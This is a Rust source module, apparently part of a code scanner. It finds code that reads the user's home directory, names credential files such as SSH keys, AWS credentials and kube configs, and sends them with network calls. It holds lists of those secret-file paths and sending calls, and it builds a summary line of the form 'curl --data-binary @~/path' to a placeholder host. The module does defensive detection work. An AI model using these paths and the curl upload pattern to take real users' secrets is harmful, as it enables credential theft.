//! The home and secrets in code of a language without a reader: they are named by calls, not by texts.

/// Words by which languages ask for a user's home.
const WORDS: &[&str] = &[
    "UserHomeDir",
    "home_dir",
    "homedir",
    "user.home",
    "HomeDir",
    "UserProfile",
    "USERPROFILE",
    "homeDirectoryForCurrentUser",
    "NSHomeDirectory",
    "getHomeDirectory",
    "user_home",
    "\"HOME\"",
    "'HOME'",
];
/// By what a test gives itself a home of its own.
const OWN_HOME: &[&str] = &[
    "Setenv(\"HOME\"",
    "setenv(\"HOME\"",
    "set_var(\"HOME\"",
    "setProperty(\"user.home\"",
    "put_env(\"HOME\"",
    "SetEnvironmentVariable(\"HOME\"",
];
/// Variables followed in one file: what takes the home by more names is generated.
const MAX_NAMES: usize = 16;
/// Words in front of a name that is given a value.
const KEYWORDS: &[&str] = &[
    "let", "mut", "var", "val", "const", "def", "final", "auto", "err", "_", "ok", "string",
    "String", "char", "Path", "PathBuf", "File", "static", "if",
];
/// Files that hold secrets, as their paths go on from the home.
const SECRETS: &[&str] = &[
    ".ssh/id_",
    ".aws/credentials",
    ".netrc",
    ".git-credentials",
    ".kube/config",
    ".docker/config.json",
    ".npmrc",
    ".pypirc",
    ".config/gcloud",
    ".config/gh/hosts.yml",
    ".gnupg/",
];
/// Calls that send.
const SENDING: &[&str] = &[
    "http.Post",
    "http.NewRequest",
    "PostForm",
    "net.Dial",
    "reqwest",
    "ureq::",
    "TcpStream::connect",
    "HttpClient",
    "HttpURLConnection",
    "openConnection",
    "WebClient",
    "URLSession",
    "HTTPoison",
    "Req.post",
    ":httpc",
    "curl_easy",
    "OkHttp",
];

/// The variables that hold the home, in the order of the text.
pub(super) fn names(text: &str) -> Vec<&str> {
    let mut names: Vec<&str> = Vec::new();
    if OWN_HOME.iter().any(|call| text.contains(call))
        || !WORDS.iter().any(|word| text.contains(word))
    {
        return names;
    }
    for statement in text.split(['\n', ';', '{', '}']) {
        let Some((left, right)) = statement.split_once('=') else {
            continue;
        };
        let given = is_word_in(right) || (!right.contains(['"', '\'']) && holds(right, &names));
        if !given || right.starts_with('=') {
            continue;
        }
        // `let h: PathBuf = f()` gives the name in front of the sign.
        let left = left.trim_end_matches([':', ' ']);
        let words = left.split(|letter: char| !(letter.is_alphanumeric() || letter == '_'));
        for word in words.filter(|word| !word.is_empty() && !KEYWORDS.contains(word)) {
            if names.len() < MAX_NAMES && !names.contains(&word) {
                names.push(word);
            }
        }
    }
    names
}

/// Whether the home stands in a piece of code, by a word of the language or a variable.
pub(super) fn is_in(code: &str, names: &[&str]) -> bool {
    is_word_in(code) || holds(code, names)
}

/// Whether a text is such a word itself.
pub(super) fn is_word(text: &str) -> bool {
    matches!(text, "HOME") || WORDS.contains(&text)
}

fn is_word_in(code: &str) -> bool {
    WORDS.iter().any(|word| code.contains(word))
}

/// Whether one of the names stands in code outside of quotes.
fn holds(code: &str, names: &[&str]) -> bool {
    if names.is_empty() {
        return false;
    }
    let mut plain = String::with_capacity(code.len());
    let mut quote = None;
    for letter in code.chars() {
        match quote {
            Some(open) if letter == open => quote = None,
            Some(_) => {}
            None if letter == '"' => quote = Some(letter),
            None => plain.push(letter),
        }
    }
    let words = plain.split(|letter: char| !(letter.is_alphanumeric() || letter == '_'));
    words.into_iter().any(|word| names.contains(&word))
}

/// Code that names a file of secrets and sends: the line of a shell that does both.
pub(super) fn sent(text: &str) -> Option<String> {
    if !SENDING.iter().any(|call| text.contains(call)) {
        return None;
    }
    SECRETS.iter().find_map(|secret| {
        let at = text.find(secret)?;
        let rest = text.get(at..)?;
        let path: String = rest
            .chars()
            .take_while(|letter| letter.is_alphanumeric() || "._-/".contains(*letter))
            .collect();
        // Only a text is a path.
        let quoted = rest.get(path.len()..)?.starts_with(['"', '\'', '`']);
        quoted.then(|| format!("curl --data-binary '@~/{path}' https://unknown.invalid"))
    })
}
